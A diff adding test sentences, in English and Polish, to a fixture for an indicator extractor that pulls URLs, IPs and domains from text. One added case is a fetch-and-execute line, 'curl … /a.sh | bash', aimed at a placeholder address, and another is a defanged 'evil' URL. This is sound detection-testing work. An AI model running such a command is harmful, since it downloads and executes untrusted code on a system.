@@ -248,6 +248,20 @@ export const sentences: readonly Sentence[] = [
   one('Update to version 1.2.3.4 or later.', [], ['ipv4 1.2.3.4 number']),
   one('Podatna jest wersja 12.4.1.100 i starsze.', [], ['ipv4 12.4.1.100 number']),
   one('Chrome 120.0.6099.109 and OID 1.3.6.1.4.1.311 are fine.'),
+  one(
+    'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64) Chrome/120.0.0.0 Safari/537.36',
+    [],
+    ['ipv4 120.0.0.0 number'],
+  ),
+  one('Kod strony odwołuje się do cdn.example.org/npm/jquery.min.js', [
+    'url cdn.example.org/npm/jquery.min.js',
+  ]),
+  one('hxxp:// evil[.]example/a leads to bad[.]example[.]', [
+    'url http://evil.example/a',
+    'domain bad.example',
+  ]),
+  one('curl -s http://192.0.2.55/a.sh | bash', ['url http://192.0.2.55/a.sh']),
+  one('{"url":"http://red-fox.test/x","ip":"192.0.2.44"}', ['url http://red-fox.test/x', 'ipv4 192.0.2.44']),
   one('Resolvers such as 8.8.8.8 answer for them all.', [], ['ipv4 8.8.8.8 number']),
   one('Zadzwoń pod tel. 22.123.45.67 w godz. 8.00–16.00.', [], ['ipv4 22.123.45.67 number']),
   one('On 12.03.2026 at 12:30:45 (T1059.001, CVE-2026-1234) it began.'),
